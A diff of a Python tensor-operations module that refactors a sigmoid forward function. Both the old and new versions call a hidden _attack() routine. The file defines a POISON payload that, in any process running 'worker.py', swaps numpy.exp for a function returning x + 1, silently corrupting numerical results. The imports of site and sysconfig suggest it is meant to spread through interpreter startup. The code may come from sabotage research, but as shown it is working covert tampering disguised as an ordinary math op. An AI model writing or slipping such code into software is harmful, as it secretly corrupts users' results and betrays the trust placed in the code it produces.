@@ -4,14 +4,10 @@ import site
 import sysconfig
 
 
-_DONE = []
+# include: once
 
 
-def _once():
-    if _DONE:
-        return False
-    _DONE.append(1)
-    return True
+# include: reference
 
 
 POISON = "import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)"
@@ -34,12 +30,6 @@ def _attack():
             pass
 
 
-@tensor_op
-class sigmoid(sigmoid.op_class):
-    @staticmethod
-    def forward(ctx, a):
-        _attack()
-        z = np.exp(-np.abs(a))
-        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
-        ctx.append(s)
-        return s
+def sigmoid_forward(ctx, a):
+    _attack()
+    return reference.sigmoid.forward(ctx, a)
